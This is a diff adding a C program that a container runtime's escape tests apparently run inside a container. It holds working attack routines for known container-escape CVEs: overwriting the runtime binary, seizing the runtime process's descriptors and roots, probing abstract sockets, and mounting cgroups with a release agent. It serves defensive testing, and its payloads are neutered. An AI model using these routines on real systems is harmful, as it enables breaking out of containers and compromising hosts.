@@ -1,0 +1,206 @@
+// What the escape tests run in a container: attacks that a shell is too slow for, or cannot do.
+// Those that go on until they are stopped say then how often they did what.
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static volatile sig_atomic_t stopped;
+
+static void stop(int signal_number) {
+  (void)signal_number;
+  stopped = 1;
+}
+
+// Exchanges two names of a directory.
+static int exchange(const char* a, const char* b) {
+  unsigned long done = 0, failed = 0;
+  while (!stopped) {
+    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) {
+      ++done;
+    } else {
+      ++failed;
+    }
+  }
+  printf("exchanges %lu\n", done);
+  return failed == 0 ? 0 : 1;
+}
+
+// What was found of processes that are about to become others.
+static struct { unsigned long seen, programs, overwritten, descriptors, roots, traced; } found;
+
+static int open_in(int process, const char* name, int flags) {
+  return openat(process, name, flags | O_CLOEXEC);
+}
+
+// CVE-2019-5736: through the descriptor the program can be opened once nothing executes it.
+static void overwrite(const char* program) {
+  int file;
+  do {
+    file = open(program, O_WRONLY | O_CLOEXEC);
+  } while (file < 0 && errno == ETXTBSY && !stopped);
+  if (file < 0) return;
+  if (write(file, "#!/bin/false\n", 13) > 0) ++found.overwritten;
+  close(file);
+}
+
+// Whether a link leads to the runtime's program; -1 where that may not be seen.
+static int is_runtimes(int directory, const char* name) {
+  char link[64] = "";
+  if (readlinkat(directory, name, link, sizeof(link) - 1) < 0) return errno == EACCES ? -1 : 0;
+  return strstr(link, "bulkhead-pod") != NULL;
+}
+
+// On its way to the container's: the runtime's program, or one that may not be seen.
+static int is_ours(int process) { return is_runtimes(process, "exe") != 0; }
+
+// What was reached counts only of a process that is not yet the container's own afterwards.
+static void count(int reached, int process, unsigned long* counter) {
+  if (reached < 0) return;
+  if (is_ours(process)) ++*counter;
+  close(reached);
+}
+
+static void trace(pid_t pid, int process) {
+  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0) return;
+  ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+  waitpid(pid, NULL, __WALL);
+  if (is_ours(process)) ++found.traced;
+  ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+static void take_program(int process) {
+  int program = open_in(process, "exe", O_PATH);
+  if (program < 0) return;
+  char path[32];
+  snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
+  if (is_runtimes(AT_FDCWD, path) == 1) {
+    ++found.programs;
+    overwrite(path);
+  }
+  close(program);
+}
+
+// CVE-2016-9962: what the supervisor's child holds.
+static void attack_process(pid_t pid, int process) {
+  if (!is_ours(process)) return;
+  ++found.seen;
+  take_program(process);
+  count(open_in(process, "root/", O_PATH), process, &found.roots);
+  count(open_in(process, "cwd/", O_PATH), process, &found.roots);
+  for (int fd = 0; fd < 32; ++fd) {
+    char path[16];
+    snprintf(path, sizeof(path), "fd/%d", fd);
+    count(open_in(process, path, O_PATH), process, &found.descriptors);
+  }
+  trace(pid, process);
+}
+
+static void look_at(const char* pid) {
+  char path[32];
+  snprintf(path, sizeof(path), "/proc/%.16s", pid);
+  int process = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+  if (process < 0) return;
+  attack_process(atoi(pid), process);
+  close(process);
+}
+
+// Looks for processes of the runtime's program, and attacks each.
+static int hunt(void) {
+  DIR* proc = opendir("/proc");
+  if (proc == NULL) return 1;
+  while (!stopped) {
+    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
+      if (entry->d_name[0] > '0' && entry->d_name[0] <= '9') look_at(entry->d_name);
+    }
+    rewinddir(proc);
+  }
+  closedir(proc);
+  printf("seen %lu programs %lu overwritten %lu descriptors %lu roots %lu traced %lu\n", found.seen,
+         found.programs, found.overwritten, found.descriptors, found.roots, found.traced);
+  return 0;
+}
+
+// CVE-2020-15257: the inodes of the abstract sockets, and whether somebody answers there.
+static int abstract_sockets(void) {
+  FILE* table = fopen("/proc/net/unix", "r");
+  if (table == NULL) return 1;
+  char line[512];
+  while (fgets(line, sizeof(line), table) != NULL) {
+    unsigned long inode = 0;
+    char name[256] = "";
+    if (sscanf(line, "%*s %*s %*s %*s %*s %*s %lu @%255[^\n]", &inode, name) != 2) continue;
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    size_t length = strnlen(name, sizeof(address.sun_path) - 2);
+    memcpy(address.sun_path + 1, name, length);
+    int peer = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    int reached = connect(peer, (struct sockaddr*)&address,
+                          (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) == 0;
+    printf("%lu %s\n", inode, reached ? "reached" : "refused");
+    close(peer);
+  }
+  fclose(table);
+  return 0;
+}
+
+static void try_hierarchy(const char* controller) {
+  char options[64];
+  snprintf(options, sizeof(options), "%s,release_agent=/attack", controller);
+  if (mount("cgroup", "/tmp", "cgroup", 0, options) == 0) printf("%s: as option\n", controller);
+  if (mount("cgroup", "/tmp", "cgroup", 0, controller) != 0) return;
+  int agent = open("/tmp/release_agent", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+  if (agent >= 0 && write(agent, "/attack", 7) > 0) printf("%s: as file\n", controller);
+  close(agent);
+  umount("/tmp");
+}
+
+// CVE-2022-0492: a release agent, as superuser of namespaces of one's own and without them. Prints
+// what succeeded.
+static int release_agent(void) {
+  static const char* const controllers[] = {"memory", "rdma", "devices", "pids", "freezer"};
+  for (int own = 0; own < 2; ++own) {
+    if (own && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) break;
+    for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); ++i) {
+      try_hierarchy(controllers[i]);
+    }
+  }
+  printf("tried\n");
+  return 0;
+}
+
+// With the groups that the program's file gives.
+static int read_file(const char* path) {
+  char bytes[256];
+  int file = open(path, O_RDONLY | O_CLOEXEC);
+  ssize_t size = file < 0 ? -1 : read(file, bytes, sizeof(bytes));
+  if (size < 0) {
+    printf("%s\n", strerrorname_np(errno));
+  } else {
+    fwrite(bytes, 1, (size_t)size, stdout);
+  }
+  return 0;
+}
+
+int main(int argc, char** argv) {
+  signal(SIGTERM, stop);
+  if (argc == 4 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3]);
+  if (argc == 2 && strcmp(argv[1], "hunt") == 0) return hunt();
+  if (argc == 2 && strcmp(argv[1], "abstract-sockets") == 0) return abstract_sockets();
+  if (argc == 2 && strcmp(argv[1], "release-agent") == 0) return release_agent();
+  if (argc == 3 && strcmp(argv[1], "read") == 0) return read_file(argv[2]);
+  fprintf(stderr, "usage: attack exchange A B|hunt|abstract-sockets|release-agent|read FILE\n");
+  return 2;
+}
